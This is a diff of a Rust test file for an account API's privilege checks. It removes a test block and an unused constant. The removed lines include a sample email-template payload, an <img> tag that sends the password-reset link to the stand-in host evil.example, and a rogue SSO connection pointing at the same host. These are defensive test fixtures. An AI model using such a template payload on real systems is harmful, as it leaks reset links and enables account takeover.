@@ -12,8 +12,6 @@ use testkit::{
     on_both_engines,
 };
 
-use crate::account::federation::CERTIFICATE;
-
 on_both_engines!(
     settings_that_move_power_need_it,
     a_role_takes_no_privilege_that_its_editor_lacks,
@@ -29,7 +27,6 @@ on_both_engines!(
     no_token_survives_a_removal_under_way,
 );
 
-const CONNECTIONS: &str = "/account/federation/connection";
 const APP: &str = "/account/api-token/app";
 const WORKSPACE: &str = "/account/api-token/workspace";
 const ME: &str = "/account/api-token/me/app";
@@ -61,16 +58,6 @@ async fn settings_that_move_power_need_it(app: TestApp) {
     }
     weak.put("/account/app/credentials", json!({ "payproviderSecretKey": "sk" })).await.error(403, "MISSING_PRIVILEGE");
     weak.put("/account/app/credentials", json!({ "socialOneClientId": null })).await.error(403, "MISSING_PRIVILEGE");
-    // Who writes the mails gets at the links in them, and who has a connection's key vouches for anybody.
-    let template = json!({ "type": "RESET-PASSWORD", "content": "<img src=\"https://evil.example/?{{ctaUrl}}\">" });
-    let connection = json!({ "name": "Evil", "loginUrl": "https://evil.example/sso", "certificate": CERTIFICATE });
-    let template_path = "/communication/email/template/RESET-PASSWORD";
-    weak.put(template_path, template.clone()).await.error(403, "MISSING_PRIVILEGE");
-    strong.put(template_path, template).await.expect(200);
-    weak.post(CONNECTIONS, connection.clone()).await.error(403, "MISSING_PRIVILEGE");
-    let path = format!("{CONNECTIONS}/{}", strong.post(CONNECTIONS, connection).await.expect(201).text("/id"));
-    weak.put(&path, json!({ "name": "Evil" })).await.error(403, "MISSING_PRIVILEGE");
-    strong.put(&path, json!({ "name": "Fine" })).await.expect(200);
     // What moves nothing is theirs to change, also beside what stays as it is.
     weak.put("/account/app/credentials", json!({})).await.expect(200);
     let before = weak.get("/account/app").await.expect(200).json();
